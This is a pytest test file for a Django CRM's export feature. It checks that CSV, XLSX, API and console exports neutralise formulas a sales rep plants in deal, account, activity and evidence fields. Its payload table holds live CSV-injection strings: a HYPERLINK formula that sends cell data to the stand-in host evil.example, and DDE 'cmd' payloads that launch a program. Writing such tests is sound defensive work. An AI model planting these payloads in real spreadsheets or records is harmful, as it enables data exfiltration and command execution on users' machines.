"""Hostile input: text that a spreadsheet would run as a formula, planted through the API by a
rep, never runs in the spreadsheet of the manager who exports it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from dealcraft.people.services import create_token

from .conftest import body, read_csv, read_xlsx

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "deal": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "account": "+cmd|' /C calc'!A0",
    "subject": "@SUM(1+9)*cmd|' /C calc'!A0",
    "evidence": "-2+3+cmd|' /C calc'!A0",
    "override": "=1+1",
}


@pytest.fixture
def planted(org: Any) -> dict[str, Any]:
    """Alice plants formulas through the API in every text that ends up in an export."""
    _, key = create_token(acting_user=None, user=org.alice)
    client = Client()

    def post(path: str, payload: dict[str, Any]) -> dict[str, Any]:
        response = client.post("/api/v1" + path, json.dumps(payload),
                               content_type="application/json",
                               HTTP_AUTHORIZATION=f"Bearer {key}")
        assert response.status_code in (200, 201), response.content
        return dict(json.loads(response.content))

    account = post("/accounts", {"name": PAYLOADS["account"]})
    deal = post("/deals", {"name": PAYLOADS["deal"], "amount": "1000", "currency": "EUR",
                           "expected_close": "2031-01-01", "account_id": account["id"]})
    post(f"/deals/{deal['id']}/activities", {"kind": "call", "subject": PAYLOADS["subject"],
                                             "body": "=cmd"})
    post(f"/deals/{deal['id']}/evidence", {"criterion": "problem_confirmed",
                                           "text": PAYLOADS["evidence"]})
    return deal


def manager(org: Any) -> Client:
    client = Client()
    client.force_login(org.mona)
    return client


def test_csv_export_neutralises_formulas_in_every_text_column(org: Any,
                                                              planted: dict[str, Any]) -> None:
    client = manager(org)
    [deal] = read_csv(body(client.get("/exports/deals/")))
    assert deal["name"] == "'" + PAYLOADS["deal"]
    assert deal["account"] == "'" + PAYLOADS["account"]
    [activity] = read_csv(body(client.get("/exports/activities/")))
    assert activity["subject"] == "'" + PAYLOADS["subject"]
    assert activity["body"] == "'=cmd"
    assert activity["deal"] == "'" + PAYLOADS["deal"]
    [evidence] = read_csv(body(client.get("/exports/evidence/")))
    assert evidence["text"] == "'" + PAYLOADS["evidence"]
    history = read_csv(body(client.get("/exports/history/")))
    assert {row["deal"] for row in history} == {"'" + PAYLOADS["deal"]}


def test_numbers_stay_numbers_in_numeric_columns(org: Any, planted: dict[str, Any]) -> None:
    [deal] = read_csv(body(manager(org).get("/exports/deals/")))
    assert deal["amount"] == "1000.00"
    assert deal["id"] == str(planted["id"])
    assert deal["probability"].isdigit()


def test_no_text_cell_of_an_xlsx_export_is_a_formula(org: Any, planted: dict[str, Any]) -> None:
    client = manager(org)
    for kind in ("deals", "activities", "evidence", "history"):
        rows = read_xlsx(body(client.get(f"/exports/{kind}/", {"format": "xlsx"})))
        assert rows
        for row in rows:
            for header, cell in row.items():
                assert cell.data_type != "f", (kind, header, cell.value)
                if isinstance(cell.value, str) and cell.value:
                    assert cell.value[0] not in "=+-@", (kind, header, cell.value)
    [deal] = read_xlsx(body(client.get("/exports/deals/", {"format": "xlsx"})))
    assert deal["name"].value == "'" + PAYLOADS["deal"]
    assert deal["name"].data_type == "s"
    assert deal["amount"].data_type == "n"


def test_api_and_console_exports_neutralise_too(org: Any, planted: dict[str, Any], run: Any,
                                                tmp_path: Path) -> None:
    _, key = create_token(acting_user=None, user=org.mona)
    response = Client().get("/api/v1/exports/activities", {"format": "csv"},
                            HTTP_AUTHORIZATION=f"Bearer {key}")
    [activity] = read_csv(body(response))
    assert activity["subject"] == "'" + PAYLOADS["subject"]
    out = tmp_path / "deals.xlsx"
    assert run("export", "deals", "--out", str(out))[0] == 0
    [deal] = read_xlsx(out)
    assert deal["account"].value == "'" + PAYLOADS["account"]
    assert deal["account"].data_type == "s"


def test_control_characters_do_not_break_an_xlsx_export(org: Any, make_deal: Any) -> None:
    make_deal(name="Bell\x07 and form\x0cfeed")
    client = manager(org)
    [row] = read_xlsx(body(client.get("/exports/deals/", {"format": "xlsx"})))
    assert row["name"].value == "Bell\ufffd and form\ufffdfeed"
    [row] = read_csv(body(client.get("/exports/deals/")))
    assert row["name"] == "Bell\x07 and form\x0cfeed"
